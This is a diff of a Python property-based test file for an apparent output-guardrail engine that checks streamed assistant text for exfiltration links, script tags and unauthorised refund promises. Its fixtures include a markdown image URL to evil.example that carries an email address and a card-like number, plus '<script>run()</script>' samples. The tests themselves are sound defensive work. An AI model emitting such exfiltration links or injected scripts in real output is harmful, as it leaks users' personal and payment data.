@@ -3,20 +3,23 @@
 from hypothesis import given
 from hypothesis import strategies as st
 
+from redoubt import compose
 from redoubt.domain.decision import Action, Decision, Obligation
 from redoubt.domain.exchange import Role, Segment, Syntax, Trust
-from redoubt.engine.detect.interface import Detector
+from redoubt.engine.detect.interface import Detector, Unit
+from redoubt.engine.detect.scan import scan
 from redoubt.engine.effects.active import ActiveContentDetector
 from redoubt.engine.effects.address import parse
 from redoubt.engine.effects.carries import carries
 from redoubt.engine.effects.commitments import CommitmentDetector
 from redoubt.engine.effects.exfiltration import ExfiltrationDetector
-from redoubt.engine.effects.fences import Code
+from redoubt.engine.effects.fences import Code, lead
 from redoubt.engine.effects.sentences import LONGEST, sentences
 from redoubt.engine.redact.methods import Methods
 from redoubt.engine.redact.restore import Restorer
 from redoubt.engine.stream import LaneStream
 
+RULES = compose.detector()
 DETECTORS: tuple[Detector, ...] = (
     ExfiltrationDetector(),
     ActiveContentDetector(),
@@ -113,14 +116,67 @@ def test_code_is_where_a_backtick_or_a_tilde_is(text: str) -> None:
         assert not any(code.holds(place) for place in range(len(text)))
 
 
+TICKS = st.lists(
+    st.sampled_from(
+        ["`", "``", "```", "~~~", "\n", "\n```", "\n```\n", "- ", " ", "word ", "a", "so it goes on "]
+    ),
+    max_size=30,
+).map("".join)
+
+
+@given(TICKS, st.integers(0, 200))
+def test_what_stands_for_the_beginning_of_a_text_leaves_the_rest_as_it_was(text: str, at: int) -> None:
+    at = min(at, len(text))
+    before = lead(text, at)
+    whole, rest = Code(text), Code(before + text[at:])
+    assert len(before) <= at
+    for place in range(at, len(text)):
+        assert rest.holds(place - at + len(before)) == whole.holds(place), (before, place)
+
+
+PARTS = (
+    "Here is what you asked for, word by word.",
+    "\n\n```html\n" + "<p>so it goes</p>\n" * 40 + "<script>run()</script>\n```\n",
+    "\n~~~~\n" + "a line of it\n" * 60 + "~~~\n<script>run()</script>\n~~~~\n",
+    "And this is said in one line, which goes on for so long that nobody remembers how it began, with `code` ```\n",
+    "One may write `<script>run()</script>` as well. ",
+    " <script>run()</script> ",
+    "We guarantee you a full refund. ",
+)
+
+
+@given(
+    st.lists(st.sampled_from(PARTS), max_size=6).map("".join),
+    st.sampled_from(list(Unit)),
+    st.integers(1, 700),
+)
+def test_a_stream_finds_outside_of_code_what_is_found_in_the_whole(text: str, unit: Unit, size: int) -> None:
+    def found(piece: str) -> Decision:
+        seen = scan(DETECTORS, Segment(piece, Role.ASSISTANT, Trust.MODEL)).findings
+        return Decision(obligations=tuple(Obligation(f, Action.FLAG, "r") for f in seen))
+
+    lane = LaneStream(found, Restorer(), Methods(b"k" * 32), unit=unit)
+    assert (
+        "".join([*(lane.feed(text[i : i + size]) for i in range(0, len(text), size)), lane.close()]) == text
+    )
+    kinds = ("code.active",) if unit is Unit.WORD else ("code.active", "commitment.refund")
+    told = {
+        (f.category, f.end) for f in (o.finding for o in lane.decision.obligations) if f.category in kinds
+    }
+    assert told == {
+        (f.category, f.end) for f in (o.finding for o in found(text).obligations) if f.category in kinds
+    }
+
+
 @given(st.lists(st.integers(1, 9), min_size=1, max_size=60), st.sampled_from(["plain words here. ", ""]))
 def test_no_chunking_lets_an_image_out(sizes: list[int], before: str) -> None:
-    image = "![a](https://evil.example/p.png?d=jane.doe@acme-widgets.com)"
+    image = "![a](https://evil.example/p.png?d=jane.doe@acme-widgets.com&c=4111111111111111)"
     text = before + image + " and more."
-    detector = DETECTORS[0]
+    seen: set[str] = set()
 
     def inspect(piece: str) -> Decision:
-        found = detector.detect(Segment(piece, Role.ASSISTANT, Trust.MODEL))
+        found = scan((RULES, *DETECTORS), Segment(piece, Role.ASSISTANT, Trust.MODEL)).findings
+        seen.update(f.category for f in found)
         return Decision(obligations=tuple(Obligation(f, Action.REDACT, "r") for f in found))
 
     lane = LaneStream(inspect, Restorer(), Methods(b"k" * 32))
@@ -131,3 +187,6 @@ def test_no_chunking_lets_an_image_out(sizes: list[int], before: str) -> None:
             at += size
     released += lane.close()
     assert released == before + "[REDACTED:leak.exfiltration] and more."
+    assert seen >= {"leak.exfiltration", "pii.email", "finance.card"}, (
+        "the values in the link are found beside it"
+    )
